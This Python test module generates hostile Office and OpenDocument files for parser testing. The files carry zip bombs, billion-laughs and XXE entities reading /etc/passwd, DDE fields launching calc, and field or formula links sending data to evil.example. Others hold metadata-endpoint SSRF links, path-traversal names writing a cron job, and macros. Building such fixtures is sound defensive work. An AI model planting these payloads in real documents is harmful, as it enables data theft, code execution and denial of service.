"""Office and OpenDocument files that unpack to mountains, call themselves for ever, run macros, or fetch from elsewhere."""

from __future__ import annotations

import io
import struct
import zipfile
from collections.abc import Iterator

from tools.corpus import Hostile
from tools.corpus.broken import DOCX, zipped

ENTITIES = (
    '<!DOCTYPE lolz [<!ENTITY a "ha">'
    + "".join(f'<!ENTITY {new} "{f"&{old};" * 10}">' for old, new in zip("abcdefghi", "bcdefghij", strict=True))
    + "]>"
)
WORD = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'
RELATIONS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
OPEN = (
    'xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" '
    'xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0" '
    'xmlns:draw="urn:oasis:names:tc:opendocument:xmlns:drawing:1.0" '
    'xmlns:table="urn:oasis:names:tc:opendocument:xmlns:table:1.0" xmlns:xlink="http://www.w3.org/1999/xlink"'
)
MANIFEST = '<manifest:manifest xmlns:manifest="urn:oasis:names:tc:opendocument:xmlns:manifest:1.0"/>'
SHEET = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
TYPES = "http://schemas.openxmlformats.org/package/2006/content-types"
PACKAGE = "http://schemas.openxmlformats.org/package/2006/relationships"


def parts() -> dict[str, bytes]:
    with zipfile.ZipFile(io.BytesIO(DOCX)) as source:
        return {name: source.read(name) for name in source.namelist()}


def word(**changed: bytes | str) -> bytes:
    """The document with some parts changed; `__` in a name stands for a slash."""
    new = {name.replace("__", "/").replace("_xml", ".xml"): content for name, content in changed.items()}
    return zipped(parts() | {name: each.encode() if isinstance(each, str) else each for name, each in new.items()})


def body(inner: str, *, before: str = "") -> str:
    return f'<?xml version="1.0"?>{before}<w:document {WORD}><w:body>{inner}</w:body></w:document>'


def field(command: str) -> str:
    """A field that an Office program would carry out."""
    run = '<w:r><w:fldChar w:fldCharType="{}"/></w:r>'
    said = f'<w:r><w:instrText xml:space="preserve"> {command} </w:instrText></w:r>'
    return body(
        f"<w:p>{run.format('begin')}{said}{run.format('separate')}<w:r><w:t>x</w:t></w:r>{run.format('end')}</w:p>"
    )


def related(kind: str, target: str) -> bytes:
    """The document with one relationship to something outside."""
    own = parts()
    link = (
        f'<Relationship Id="rId99" Type="{RELATIONS}/{kind}" Target="{target}" TargetMode="External"/></Relationships>'
    )
    name = "word/_rels/document.xml.rels"
    return zipped(own | {name: own[name].replace(b"</Relationships>", link.encode())})


def open_document(content: str, kind: str = "text", **more: bytes) -> bytes:
    body = f'<office:document-content {OPEN} office:version="1.2"><office:body>{content}</office:body></office:document-content>'
    held = {
        "mimetype": f"application/vnd.oasis.opendocument.{kind}".encode(),
        "META-INF/manifest.xml": MANIFEST.encode(),
    }
    return zipped(
        held | {"content.xml": body.encode()} | {name.replace("__", "/"): each for name, each in more.items()}
    )


def workbook(cells: str, strings: bytes = b"") -> bytes:
    sheet = f'<worksheet xmlns="{SHEET}"><sheetData><row r="1">{cells}</row></sheetData></worksheet>'
    main = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"
    held = {
        "[Content_Types].xml": f'<Types xmlns="{TYPES}"><Default Extension="xml" ContentType="application/xml"/>'
        '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
        f'<Override PartName="/xl/workbook.xml" ContentType="{main}"/></Types>',
        "_rels/.rels": f'<Relationships xmlns="{PACKAGE}"><Relationship Id="r1" Type="{RELATIONS}/officeDocument" '
        'Target="xl/workbook.xml"/></Relationships>',
        "xl/workbook.xml": f'<workbook xmlns="{SHEET}" xmlns:r="{RELATIONS}"><sheets>'
        '<sheet name="A" sheetId="1" r:id="r1"/></sheets></workbook>',
        "xl/_rels/workbook.xml.rels": f'<Relationships xmlns="{PACKAGE}"><Relationship Id="r1" '
        f'Type="{RELATIONS}/worksheet" Target="worksheets/sheet1.xml"/></Relationships>',
        "xl/worksheets/sheet1.xml": sheet,
    }
    packed = {name: each.encode() for name, each in held.items()}
    return zipped(packed | ({"xl/sharedStrings.xml": strings} if strings else {}))


def lying() -> bytes:
    """An archive whose parts unpack to more than its directory says."""
    content = bytearray(word(word__media__a=bytes(50_000_000)))
    at = content.rindex(b"word/media/a") - 46
    return bytes(content[: at + 24] + struct.pack("<I", 10) + content[at + 28 :])


def many() -> bytes:
    return zipped(parts() | {f"word/media/{number}.bin": b"" for number in range(12_000)})


def nested() -> bytes:
    inner = zipped({"a": bytes(1_000_000)})
    for _ in range(5):
        inner = zipped({f"{number}.zip": inner for number in range(10)})
    return word(word__media__inner=inner)


def files() -> Iterator[Hostile]:
    yield Hostile("600 MB of nothing in a document", "list.docx", lambda: word(word__media__b=bytes(600 * 1024**2)))
    yield Hostile("archives in archives", "list.docx", nested)
    yield Hostile("twelve thousand parts", "list.docx", many)
    yield Hostile("parts larger than they say", "list.docx", lying)
    yield Hostile("a text of 60 MB", "list.docx", lambda: word(word__document_xml=body("<w:p/>" * 10_000_000)))
    yield Hostile("tables in tables", "list.docx", lambda: word(word__document_xml=body(
        "<w:tbl><w:tr><w:tc>" * 3_000 + "<w:p/>" + "</w:tc></w:tr></w:tbl>" * 3_000)))  # fmt: skip
    text = "<w:p><w:r><w:t>{}</w:t></w:r></w:p>"
    yield Hostile(
        "a thousand million laughs", "list.docx", word(word__document_xml=body(text.format("&j;"), before=ENTITIES))
    )
    reads = '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>'
    yield Hostile(
        "an entity that reads a file", "list.docx", word(word__document_xml=body(text.format("&e;"), before=reads))
    )
    yield from _fetching()
    yield from _open()
    yield from _sheets()
    yield from _names()


def _fetching() -> Iterator[Hostile]:
    for command in (
        "INCLUDETEXT &quot;file:///etc/passwd&quot;", "INCLUDEPICTURE &quot;file:///etc/passwd&quot; \\d",
        "DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe &quot;/k calc&quot;", "LINK Excel.Sheet file:///etc/passwd A1",
        "INCLUDETEXT https://evil.example/leak",
    ):  # fmt: skip
        yield Hostile(f"a field: {command.split()[0]}", "list.docx", word(word__document_xml=field(command)))
    for kind, target in (
        ("attachedTemplate", "http://evil.example/t.dotm"), ("attachedTemplate", "file:///etc/passwd"),
        ("image", "file:///etc/passwd"), ("image", "http://169.254.169.254/latest/meta-data/"),
        ("oleObject", "file:///etc/passwd"), ("frame", "http://evil.example/frame.htm"),
        ("hyperlink", "javascript:alert(1)"), ("subDocument", "file:///etc/passwd"),
    ):  # fmt: skip
        yield Hostile(f"a linked {kind}: {target.split(':')[0]}", "list.docx", related(kind, target))


def _open() -> Iterator[Hostile]:
    section = '<office:text><text:section text:name="s"><text:section-source xlink:href="{}"/><text:p/></text:section></office:text>'
    for target in ("file:///etc/passwd", "../../../../etc/passwd", "http://evil.example/x.odt"):
        yield Hostile(f"a section linked to {target[:8]}", "list.odt", open_document(section.format(target)))
    frame = '<office:text><text:p><draw:frame><draw:{} xlink:href="{}"/></draw:frame></text:p></office:text>'
    yield Hostile("a picture linked to a file", "list.odt", open_document(frame.format("image", "file:///etc/passwd")))
    yield Hostile("a linked object", "list.odt", open_document(frame.format("object", "/etc/passwd")))
    macro = open_document("<office:text><text:p/></office:text>", Basic__Standard__Module1=b"Sub Main")
    yield Hostile("an OpenDocument with a macro", "list.odt", macro)
    script = open_document("<office:text><text:p/></office:text>", Scripts__python__x=b"import os")
    yield Hostile("an OpenDocument with a script", "list.odt", script)
    dde = '<office:spreadsheet><table:table table:name="A"><table:table-source xlink:href="file:///etc/passwd"/></table:table></office:spreadsheet>'
    yield Hostile("a sheet linked to a file", "week.ods", open_document(dde, "spreadsheet"))
    slides = '<office:presentation><draw:page><draw:frame><draw:plugin xlink:href="file:///etc/passwd"/></draw:frame></draw:page></office:presentation>'
    yield Hostile("slides with a linked film", "talk.odp", open_document(slides, "presentation"))


def _sheets() -> Iterator[Hostile]:
    for formula in ('WEBSERVICE("http://evil.example/?"&amp;A1)', "DDE(&quot;cmd&quot;,&quot;/c calc&quot;,&quot;x&quot;)",
                    "'file:///etc/[passwd]A'!A1"):  # fmt: skip
        yield Hostile(f"a formula: {formula[:10]}", "week.xlsx", workbook(f'<c r="A1"><f>{formula}</f><v>1</v></c>'))
    far = '<c r="XFD1048576"><v>1</v></c>'
    yield Hostile("a cell at the end of the world", "week.xlsx", workbook(far))
    yield Hostile("200 MB of strings", "week.xlsx", lambda: workbook('<c r="A1" t="s"><v>0</v></c>', _strings()))


def _strings() -> bytes:
    return b"<sst>" + b"<si><t>" + b"ha" * 100_000_000 + b"</t></si></sst>"


def _names() -> Iterator[Hostile]:
    for name in ("../../../../tmp/evil.sh", "/etc/cron.d/evil", "..\\..\\evil.bat", "word/" + "x/" * 3_000 + "y"):
        yield Hostile(f"a part named {name[:20]}", "list.docx", zipped(parts() | {name: b"* * * * * root id"}))
    yield Hostile("a document with macros", "list.docx", word(word__vbaProject_bin=b"macro") + b"")
    macros = zipped(parts() | {"word/vbaProject.bin": b"macro"})
    yield Hostile("a document with macros, named as one without", "list.docx", macros)
